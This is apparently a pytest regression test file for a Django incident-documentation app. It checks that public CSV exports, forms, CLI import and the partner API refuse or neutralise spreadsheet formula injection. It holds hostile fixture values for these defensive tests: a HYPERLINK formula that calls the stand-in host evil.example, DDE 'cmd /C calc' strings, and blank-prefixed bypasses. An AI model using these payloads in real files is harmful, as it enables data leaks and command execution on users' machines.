"""Regression tests for the December 2026 security review's findings L1 (formula injection in the public open data)
and L2 (the formula check could be bypassed with leading blanks), driven as the review did: through the coordinator's
incident and source forms, the witness form, `amparo import`, the partner API, `amparo public rebuild` and real HTTP
downloads of every public CSV from a running server."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
import urllib.request
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import translation

from amparo.cli import main
from amparo.incidents.models import Incident, Report, Source
from amparo.intake import actions
from amparo.public import exports
from amparo.public.tests.helpers import make_incident
from amparo.testing import Personas

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","ICE statement")'
DDE = "\u00a0@SUM(1+1)*cmd|' /C calc'!A0"
SOURCE_TITLE = '=HYPERLINK("http://evil.example/src","Press release")'
BYPASSES = ['\n=HYPERLINK("http://evil.example/")', "\n\n@SUM(1)", "\u00a0=1+1", "\u3000=1+1"]
FORMULA_ES = "El texto no puede empezar con =, +, - o @"
FORMULA_DE = "Text darf nicht mit =, +, - oder @ beginnen"


def runs_as_formula(cell: str) -> bool:
    """A cell a spreadsheet would run: leading tab or CR, or = + - @ (any compatibility form) after any blanks."""
    if cell[:1] in ("\t", "\r"):
        return True
    for ch in cell:
        if ch.isspace() or unicodedata.category(ch) in ("Zs", "Zl", "Zp", "Cf"):
            continue
        return unicodedata.normalize("NFKC", ch)[:1] in "=+-@"
    return False


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run; a plain decimal number such as a negative longitude is a number, not one."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if runs_as_formula(cell) and not re.fullmatch(r"-?\d+(?:\.\d+)?", cell)
    ]


@pytest.mark.django_db(transaction=True)
def test_l1_public_open_data_downloads_have_no_formula_cell(live_server: Any, personas: Personas) -> None:
    """The review's own data, stored as it was before the fix (the forms refuse it now, see below), published with
    `amparo public rebuild` and downloaded over HTTP from a running server."""
    make_incident(
        personas.north,
        official_claims=HYPERLINK,
        evidence_response=DDE,
        notes_public="-2+3+cmd|' /C calc'!A0",
        operation_name="\u3000=1+1",
        sources=[
            {
                "source_type": "local_news",
                "title": SOURCE_TITLE,
                "url": "https://news.example/a",
                "public": True,
            },
        ],
    )
    assert main(["public", "rebuild"]) == 0
    downloads = [name for name, (ctype, _f, _g) in exports.DOWNLOADS.items() if "csv" in ctype]
    assert set(downloads) == {"incidents.csv", "incidents-acled.csv", "aggregates.csv"}
    bodies: dict[str, str] = {}
    for name in downloads:
        with urllib.request.urlopen(f"{live_server.url}/public/data/{name}", timeout=30) as response:
            assert response.status == 200 and response.headers["Content-Type"].startswith("text/csv")
            bodies[name] = response.read().decode("utf-8")
        assert formula_cells(bodies[name]) == [], name
    # The hostile text is there, shown as text (quoted), so the check above looked at it.
    rows = list(csv.DictReader(io.StringIO(bodies["incidents.csv"])))
    assert len(rows) == 1
    assert rows[0]["official_claims"] == "'" + HYPERLINK
    assert rows[0]["evidence_response"].startswith("'") and "@SUM(1+1)" in rows[0]["evidence_response"]
    assert rows[0]["operation"].startswith("'")
    assert float(rows[0]["longitude"]) < 0  # numbers stay numbers (a negative longitude is not quoted)
    acled = list(csv.DictReader(io.StringIO(bodies["incidents-acled.csv"])))
    assert acled[0]["source"] == "'" + SOURCE_TITLE
    assert float(acled[0]["longitude"]) < 0


def incident_data(**fields: str) -> dict[str, Any]:
    data: dict[str, Any] = {
        "title": "Arrest at the clinic",
        "start_at": "2026-11-01T10:00",
        "time_precision": 1,
        "geo_precision": 3,
        "incident_type": "targeted_arrest",
        "location_type": "healthcare",
        "at_or_near": "at",
        "use_of_force": "physical",
        "warrant_presented": "admin_I200",
        "entry_type": "no_home_entry",
        "publish_status": "public",
        "ag-TOTAL_FORMS": "0",
        "ag-INITIAL_FORMS": "0",
    }
    data.update(fields)
    return data


@pytest.mark.django_db
def test_l1_the_incident_form_refuses_a_formula_in_any_text_field(personas: Personas, client_as: Any) -> None:
    incident = make_incident(personas.north, official_claims="Officials said nothing.")
    before = Incident.objects.filter(pk=incident.pk).values().get()
    client = client_as("alice")
    url = reverse("incidents:incident_edit", args=[incident.code])
    for field in ("official_claims", "evidence_response", "notes_public", "title", "admin2", "public_label"):
        for value in (HYPERLINK, DDE, *BYPASSES):
            response = client.post(url, incident_data(**{field: value}), HTTP_ACCEPT_LANGUAGE="es")
            assert response.status_code == 200, (field, value)  # the form again, with the error
            assert FORMULA_ES in response.content.decode(), (field, value)
    assert Incident.objects.filter(pk=incident.pk).values().get() == before


@pytest.mark.django_db
def test_l1_the_incident_form_stores_what_it_checked(personas: Personas, client_as: Any) -> None:
    """Control for the refusals above: plain text is saved, without the blanks around it."""
    incident = make_incident(personas.north)
    response = client_as("alice").post(
        reverse("incidents:incident_edit", args=[incident.code]),
        incident_data(official_claims="\u3000ICE said it was a targeted arrest.\n"),
    )
    assert response.status_code == 302, response.content.decode()[:1000]
    incident.refresh_from_db()
    assert incident.official_claims == "ICE said it was a targeted arrest."


@pytest.mark.django_db
def test_l1_the_source_form_refuses_a_formula_title_with_a_clear_message(
    personas: Personas, client_as: Any
) -> None:
    incident = make_incident(personas.north)
    client = client_as("alice")
    url = reverse("incidents:incident_source", args=[incident.code])
    data = {"source_type": "local_news", "url": "https://news.example/a", "public": "on"}
    for title in (SOURCE_TITLE, "\u00a0" + SOURCE_TITLE):
        response = client.post(url, {**data, "title": title}, HTTP_ACCEPT_LANGUAGE="de", follow=True)
        assert FORMULA_DE in response.content.decode()
    assert not Source.objects.filter(incident=incident).exists()
    client.post(url, {**data, "title": "\u3000Press release"}, follow=True)
    assert Source.objects.get(incident=incident).title == "Press release"


def form_url(personas: Personas) -> str:
    return reverse("intake:report", args=[actions.page_for(personas.north).slug])


@pytest.mark.django_db
def test_l2_the_witness_form_refuses_a_formula_behind_blanks_in_spanish(
    personas: Personas, settings: Any
) -> None:
    settings.INTAKE_FORM_MIN_SECONDS = 0
    for field in ("text", "place_text", "contact", "uniform"):
        for value in BYPASSES:
            data = {"text": "Agentes en la parada", "consent": ["internal"], field: value}
            response = Client().post(form_url(personas), data, HTTP_ACCEPT_LANGUAGE="es")
            assert response.status_code == 400, (field, value)
            assert FORMULA_ES in response.content.decode(), (field, value)
    assert not Report.objects.exists()


@pytest.mark.django_db
def test_l2_the_witness_form_stores_what_it_checked(personas: Personas, settings: Any) -> None:
    settings.INTAKE_FORM_MIN_SECONDS = 0
    response = Client().post(
        form_url(personas), {"text": "\u3000\uff21gentes en la parada\u00a0", "consent": ["internal"]}
    )
    assert response.status_code == 201
    assert Report.objects.get().text == "Agentes en la parada"  # NFKC, blanks gone: the text that was checked


@pytest.mark.django_db
def test_l2_amparo_import_refuses_a_formula_behind_a_newline(
    personas: Personas, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "feed.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["url", "text"])
        w.writerow(["https://a.example/1", "\n@SUM(1+1)*cmd|' /C calc'!A0"])
        w.writerow(["https://a.example/2", "\u00a0=1+1"])
        w.writerow(["https://a.example/3", "Agents at the bus stop on Main"])
    with translation.override("en"):
        main(["import", str(path), "--network", personas.north.name, "--quiet"])
    out = capsys.readouterr()
    assert "formula" in out.out + out.err
    assert list(Report.objects.values_list("text", flat=True)) == ["Agents at the bus stop on Main"]


@pytest.mark.django_db
def test_l2_the_partner_api_refuses_a_formula_behind_blanks(personas: Personas) -> None:
    _row, token = actions.do_create_token(personas.north, "Partner org", personas.user("alice"))
    auth: dict[str, Any] = {"HTTP_AUTHORIZATION": f"Bearer {token}"}
    client = Client()
    for value in BYPASSES:
        response = client.post(
            "/api/reports",
            {"text": value},
            content_type="application/json",
            HTTP_ACCEPT_LANGUAGE="en",
            **auth,
        )
        assert response.status_code in (400, 422), value
        assert "formula" in response.content.decode()
    assert not Report.objects.exists()
    ok = client.post(
        "/api/reports", {"text": "\u3000Agents at the bus stop"}, content_type="application/json", **auth
    )
    assert ok.status_code == 201
    assert client.get(f"/api/reports/{ok.json()['code']}", **auth).json()["text"] == "Agents at the bus stop"
